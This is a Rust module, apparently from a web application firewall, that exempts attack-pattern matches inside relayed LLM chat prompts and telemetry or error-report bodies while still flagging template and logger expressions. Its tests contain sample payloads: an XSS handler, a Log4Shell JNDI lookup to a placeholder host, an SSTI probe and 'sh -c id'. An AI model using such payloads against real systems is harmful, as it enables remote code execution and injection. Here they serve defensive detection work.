//! Texts that a body relays by its structure: prompts of a language model, and records of telemetry.
//!
//! What calls a model or reports an error quotes code, markup, queries and the attacks of others, and no part of such a
//! text becomes part of a page, a statement or a command on its way. The names above the value tell these bodies apart.
//! Expressions of a template are reported there all the same, for loggers expand them.

use super::{Subject, shown};
use crate::model::{AttackType, Key, Segment, Tag};
use smallvec::SmallVec;

/// Most steps of a point that are read.
const MAX_STEPS: usize = 24;

/// A step of the structure of a body.
#[derive(Clone, Copy)]
enum Step {
    /// A member of this name.
    Member(&'static [u8]),
    /// An element of an array.
    Element,
}
use Step::{Element, Member};

/// Structures below which texts are relayed.
const STRUCTURES: &[&[Step]] = &[
    // Chats with a language model: text, blocks of text and results of tools.
    &[Member(b"messages"), Element, Member(b"content")],
    &[Member(b"messages"), Element, Member(b"parts"), Element, Member(b"text")],
    &[Member(b"contents"), Element, Member(b"parts"), Element, Member(b"text")],
    &[Member(b"input"), Element, Member(b"content")],
    // OpenTelemetry.
    &[Member(b"resourceLogs"), Element],
    &[Member(b"resourceSpans"), Element],
    &[Member(b"resourceMetrics"), Element],
    // Loki.
    &[Member(b"streams"), Element, Member(b"values"), Element, Element],
    // Reports of browsers about violations of a content security policy.
    &[Member(b"csp-report")],
    &[Element, Member(b"body"), Member(b"sample")],
    // Error reports.
    &[Member(b"error"), Member(b"exception")],
    &[Member(b"exception"), Member(b"values"), Element],
    &[Member(b"breadcrumbs"), Element],
    &[Member(b"breadcrumbs"), Member(b"values"), Element],
    &[Member(b"logentry")],
];

/// Whether a match of `attack` at `start` is content of a text that the body relays.
pub fn is_content(subject: &Subject<'_>, attack: AttackType, start: usize) -> bool {
    let class = matches!(
        attack,
        AttackType::Sqli
            | AttackType::Xss
            | AttackType::Rce
            | AttackType::Ptrav
            | AttackType::Xxe
            | AttackType::Nosqli
            | AttackType::Ldapi
            | AttackType::Ssi
            | AttackType::Ssrf
            | AttackType::Redir
            | AttackType::Crlf
    );
    class && is_relayed(subject) && !shown::is_in_expression(subject.bytes, start)
}

/// Whether the value is below one of [`STRUCTURES`] of a JSON body, and no name.
fn is_relayed(subject: &Subject<'_>) -> bool {
    let steps: SmallVec<[Segment<'_>; MAX_STEPS]> = subject.ancestors().take(MAX_STEPS + 1).collect();
    if steps.len() > MAX_STEPS || steps.first().is_some_and(|last| last.tag == Tag::HashName) {
        return false;
    }
    let mut steps = steps.iter().rev();
    if !matches!((steps.next(), steps.next()), (Some(a), Some(b)) if a.tag == Tag::Post && b.tag == Tag::JsonDoc) {
        return false;
    }
    let fits = |(wanted, step): (&Step, &Segment<'_>)| match wanted {
        Member(name) => step.tag == Tag::Hash && matches!(step.key, Key::Name(other) if other == *name),
        Element => step.tag == Tag::Array,
    };
    STRUCTURES.iter().any(|structure| steps.len() >= structure.len() && structure.iter().zip(steps.clone()).all(fits))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{PointId, PointTree, Value, Zone};

    /// Whether a match of `attack` at the start of `text` is content, below members (names) and elements (`[]`).
    fn content(path: &[&'static str], attack: AttackType, text: &str) -> bool {
        let mut tree = PointTree::new();
        let post = tree.child(PointId::ROOT, Segment::plain(Tag::Post));
        let mut point = tree.child(post, Segment::plain(Tag::JsonDoc));
        for step in path {
            point = match *step {
                "[]" => tree.child(point, Segment { tag: Tag::Array, key: Key::Index(0) }),
                "name" => tree.child(point, Segment::plain(Tag::HashName)),
                name => tree.child(point, Segment::named(Tag::Hash, name.as_bytes())),
            };
        }
        let value = Value::new(point, text.as_bytes(), Zone::BODY);
        is_content(&Subject::new(text.as_bytes(), value.classes, &value, &tree), attack, 0)
    }

    #[test]
    fn structures_of_chats_and_telemetry_are_known() {
        for path in [
            &["messages", "[]", "content"][..],
            &["messages", "[]", "content", "[]", "text"],
            &["contents", "[]", "parts", "[]", "text"],
            &["resourceSpans", "[]", "scopeSpans", "[]", "spans", "[]", "status"],
            &["exception", "values", "[]", "value"],
            &["breadcrumbs", "[]", "message"],
            &["input", "[]", "content", "[]", "text"],
            &["streams", "[]", "values", "[]", "[]"],
            &["csp-report", "script-sample"],
        ] {
            assert!(content(path, AttackType::Xss, "<b onclick=go()>"), "{path:?}");
        }
        for path in [
            &["content"][..],
            &["data", "messages", "[]", "content"],
            &["messages", "content"],
            &["messages", "[]", "title"],
            &["messages", "[]", "content", "name"],
            &["exception"],
        ] {
            assert!(!content(path, AttackType::Xss, "<b onclick=go()>"), "{path:?}");
        }
    }

    #[test]
    fn look_ups_of_loggers_and_templates_count_everywhere() {
        let path = &["resourceLogs", "[]", "body"];
        assert!(!content(path, AttackType::Rce, "${jndi:ldap://a.example/x}"));
        assert!(!content(path, AttackType::Ssti, "{{7*7}}"));
        assert!(content(path, AttackType::Rce, "sh -c id"));
    }
}
